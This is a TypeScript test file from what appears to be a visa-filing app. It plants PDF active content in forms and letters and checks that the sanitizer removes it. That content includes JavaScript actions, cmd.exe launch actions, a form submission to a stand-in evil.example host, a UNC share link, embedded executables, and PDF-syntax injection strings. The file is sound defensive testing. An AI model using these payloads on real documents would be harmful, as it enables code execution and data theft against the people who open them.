import { PDFDict, type PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { uploadTypes } from '@visafolio/contract/shared/limits.ts';
import { afterAll, describe, expect, test } from 'vitest';
import findActiveContent from '../../src/features/files/process/active/find/find-active-content.ts';
import fillForm from '../../src/features/filings/government-forms/pdf/fill/fill-form.ts';
import prepareForm from '../../src/features/filings/government-forms/pdf/prepare/prepare-form.ts';
import { makeSmallForm } from '../../src/features/filings/government-forms/testing/small-form.ts';
import { renderLetterPdf } from '../../src/features/filings/letters/pdf/letter-pdf.ts';
import { createTally } from './tally.ts';

const tally = createTally('blanks and letters of a firm');
afterAll(() => tally.print());

const key = (name: string) => PDFName.of(name);
const js = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') };
const addToField = (document: PDFDocument, name: string, value: object) =>
  document
    .getForm()
    .getTextField('Pt1Line1a_FamilyName')
    .acroField.dict.set(key(name), document.context.obj(value as never));
const addToCatalog = (document: PDFDocument, name: string, value: object) =>
  document.catalog.set(key(name), document.context.obj(value as never));
const addToPage = (document: PDFDocument, name: string, value: object) =>
  document.getPage(0).node.set(key(name), document.context.obj(value as never));
const annotate = (document: PDFDocument, annotation: object) =>
  document
    .getPage(0)
    .node.addAnnot(
      document.context.register(
        document.context.obj({ Type: 'Annot', Rect: [0, 0, 9, 9], ...annotation } as never),
      ),
    );
const embedded = (document: PDFDocument) => ({
  Type: 'Filespec',
  F: PDFString.of('a.exe'),
  EF: { F: document.context.register(document.context.stream('MZ', { Type: 'EmbeddedFile' })) },
});
const goTo = (document: PDFDocument) => ({ S: 'GoTo', D: [document.getPage(0).ref, 'Fit'] });

const hostile: Record<string, (document: PDFDocument) => void> = {
  'a script when it is opened': (document) => addToCatalog(document, 'OpenAction', js),
  'a script of its own': (document) =>
    addToCatalog(document, 'Names', { JavaScript: { Names: [PDFString.of('a'), js] } }),
  'a script of its own, by reference': (document) =>
    addToCatalog(document, 'Names', {
      JavaScript: { Names: [PDFString.of('a'), document.context.register(document.context.obj(js))] },
    }),
  'a script of its own, in a branch': (document) =>
    addToCatalog(document, 'Names', { JavaScript: { Kids: [{ Names: [PDFString.of('a'), js] }] } }),
  'a script of a key': (document) => addToField(document, 'AA', { K: js, F: js, V: js, C: js }),
  'a script of a field, by reference': (document) =>
    addToField(document, 'AA', { K: document.context.register(document.context.obj(js)) }),
  'a script of a button': (document) =>
    annotate(document, { Subtype: 'Widget', FT: 'Btn', T: PDFString.of('b'), A: js }),
  'a script of a link, by reference': (document) =>
    annotate(document, { Subtype: 'Link', A: document.context.register(document.context.obj(js)) }),
  'a script after a movement': (document) =>
    annotate(document, { Subtype: 'Link', A: { ...goTo(document), Next: js } }),
  'scripts after a movement': (document) =>
    annotate(document, { Subtype: 'Link', A: { ...goTo(document), Next: [goTo(document), js] } }),
  'a script after a movement, by reference': (document) =>
    annotate(document, {
      Subtype: 'Link',
      A: { ...goTo(document), Next: document.context.register(document.context.obj(js)) },
    }),
  'a script of a bookmark': (document) =>
    addToCatalog(document, 'Outlines', {
      Type: 'Outlines',
      First: document.context.register(document.context.obj({ Title: PDFString.of('a'), A: js })),
    }),
  'a script of an earlier kind of link': (document) => annotate(document, { Subtype: 'Link', PA: js }),
  'a script of its page': (document) => addToPage(document, 'AA', { O: js, C: js }),
  'a script that nothing refers to': (document) => void document.context.register(document.context.obj(js)),
  'an address that is a script': (document) =>
    annotate(document, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('javascript:alert(1)') } }),
  'a program that is started': (document) =>
    annotate(document, { Subtype: 'Link', A: { S: 'Launch', F: PDFString.of('cmd.exe') } }),
  'a program that is started on Windows': (document) =>
    addToCatalog(document, 'OpenAction', { S: 'Launch', Win: { F: PDFString.of('cmd.exe') } }),
  'a form that is sent': (document) =>
    annotate(document, {
      Subtype: 'Widget',
      FT: 'Btn',
      T: PDFString.of('b'),
      A: { S: 'SubmitForm', F: PDFString.of('https://evil.example') },
    }),
  'another file that is opened': (document) =>
    annotate(document, {
      Subtype: 'Link',
      A: { S: 'GoToR', F: PDFString.of('\\\\evil\\a.pdf'), D: [0, 'Fit'] },
    }),
  'an embedded file': (document) =>
    addToCatalog(document, 'Names', {
      EmbeddedFiles: { Names: [PDFString.of('a.exe'), embedded(document)] },
    }),
  'an associated file': (document) => addToCatalog(document, 'AF', [embedded(document)]),
  'an associated file of its page': (document) => addToPage(document, 'AF', [embedded(document)]),
  'an attachment on its page': (document) =>
    annotate(document, { Subtype: 'FileAttachment', FS: embedded(document) }),
  'a portfolio': (document) => addToCatalog(document, 'Collection', { View: 'D' }),
  'a dynamic form': (document) =>
    document.catalog
      .lookup(key('AcroForm'), PDFDict)
      .set(
        key('XFA'),
        document.context.obj([
          PDFString.of('template'),
          document.context.register(document.context.stream('<xdp/>')),
        ]),
      ),
  'rich media': (document) =>
    annotate(document, { Subtype: 'RichMedia', RichMediaContent: { Assets: { Names: [] } } }),
  'a video with a script': (document) =>
    annotate(document, { Subtype: 'Screen', A: { S: 'Rendition', JS: PDFString.of('x') } }),
  'a sound': (document) =>
    addToCatalog(document, 'OpenAction', {
      S: 'Sound',
      Sound: document.context.register(document.context.stream('a', { Type: 'Sound' })),
    }),
  'a model': (document) =>
    annotate(document, {
      Subtype: '3D',
      '3DD': document.context.register(document.context.stream('a', { Type: '3D', Subtype: 'U3D' })),
    }),
};

const find = (bytes: Uint8Array) => findActiveContent({ type: uploadTypes.pdf, bytes });

describe('a blank with', () => {
  test.each(Object.entries(hostile))(
    '%s becomes one that does nothing, also when it is filled',
    async (_, change) => {
      const bytes = await makeSmallForm(change);
      expect(await find(bytes)).not.toEqual([]);
      const form = await prepareForm({ bytes, fileName: 'form.pdf' });
      if ('problem' in form) throw new Error(form.problem);
      const left = await find(form.pdf);
      expect(tally.held(left.length === 0), left.join()).toBe(true);
      const field = form.fields.find(({ name }) => name === 'Pt1Line1b_GivenName');
      if (!field) throw new Error('the form has lost its fields');
      const { pdf } = await fillForm({
        pdf: form.pdf,
        values: [{ field, value: ') /JS (app.alert(1)) <script>' }],
        addendum: { code: 'I-999', title: '', edition: null, applicant: 'Ana', alienNumber: null },
      });
      expect(tally.held((await find(pdf)).length === 0)).toBe(true);
    },
  );
});

test('a letter with hostile texts is a PDF that does nothing', async () => {
  for (const text of [
    ') /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (',
    'endstream endobj 1 0 obj << /S /JavaScript /JS (app.alert(1)) >>',
    '<script>alert(1)</script>',
    '[a](javascript:alert(1))',
    'javascript:alert(1) file:///etc/passwd \\\\evil\\share https://evil.example',
    '\u202egnp.exe \u0000\u0007 \ud800',
    '%%EOF\ntrailer << /Root 9 0 R >>',
  ]) {
    const { pdf } = await renderLetterPdf({
      title: text,
      letterhead: text,
      author: text,
      paragraphs: [text, text],
    });
    expect(tally.held((await find(pdf)).length === 0), text).toBe(true);
  }
});
